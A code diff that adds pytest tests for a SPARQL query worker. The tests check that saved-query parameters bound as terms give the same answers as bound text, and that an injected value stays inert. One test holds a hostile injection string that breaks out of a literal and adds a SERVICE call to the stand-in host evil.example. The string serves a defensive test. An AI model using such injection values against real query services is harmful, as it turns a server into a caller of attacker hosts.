@@ -185,3 +185,53 @@ def test_a_text_seen_before_skips_the_parse_but_not_the_policy() -> None:
     with pytest.raises(QueryError):  # a refused text is not remembered
         worker.answer(QueryJob(sparql="SELECT * { SERVICE <http://x/> { ?s ?p ?o } }"))
     assert len(worker._seen) == 1
+
+
+def test_a_saved_query_is_checked_once_for_every_value_and_answers_as_bound_text(
+        built_store: tuple[Path, Any]) -> None:
+    """Parameters travel as bindings: the worker checks the unbound text once, then writes
+    each value as a term; the answer is the one of the text with the values written in."""
+    from kg.catalogue import as_term, load_catalogue
+    from kg.namespaces import prefix_map
+    from kg.service.worker import Worker, WorkerSetup
+
+    source = DatasetSource(location=built_store[0])
+    base = source.base_iri()
+    catalogue = load_catalogue(base=base)
+    store = source.open()
+    by_text = Worker(store, WorkerSetup(source, prefix_map(base)))
+    by_bindings = Worker(store, WorkerSetup(source, prefix_map(base)))
+    compared = 0
+    for query in catalogue.values():
+        examples = {p.name: p.example for p in query.params if p.example}
+        for values in ({}, examples):
+            try:
+                bound = query.bind(values, catalogue.prefixes)
+            except ValueError:  # a required parameter without a value
+                continue
+            as_text = by_text.answer(QueryJob(sparql=query.bound_text(bound)))
+            as_bindings = by_bindings.answer(QueryJob(sparql=query.text, bindings=tuple(
+                (name, as_term(term)) for name, term in bound.items())))
+            assert as_bindings == as_text, query.name
+            compared += 1
+    assert compared > len(catalogue)  # some queries with two different sets of values
+    assert len(by_bindings._shapes) == len(catalogue)  # one parse per saved query
+    assert len(by_text._shapes) == compared
+
+
+def test_a_value_bound_to_a_saved_query_is_a_term_never_text() -> None:
+    """A hostile value is written as a literal in its variable's place: the query keeps
+    the structure the policy checked."""
+    from kg.service.worker import Checked, Worker, WorkerSetup
+    from kg.store.terms import literal
+
+    setup = WorkerSetup(DatasetSource(store_url="http://store.invalid/"), {},
+                        graphs=frozenset())
+    worker = Worker(None, setup)
+    hostile = '"} SERVICE <http://evil.example/> { ?s ?p ?o } #'
+    checked = worker.answer(QueryJob(
+        sparql="SELECT ?s WHERE { ?s ?p ?text }", bindings=(("text", literal(hostile)),)))
+    assert isinstance(checked, Checked)
+    assert checked.sparql.count("SERVICE") == 1  # inside the literal only
+    assert '"\\"} SERVICE <http://evil.example/> { ?s ?p ?o } #"' in checked.sparql
+    assert len(worker._shapes) == 1
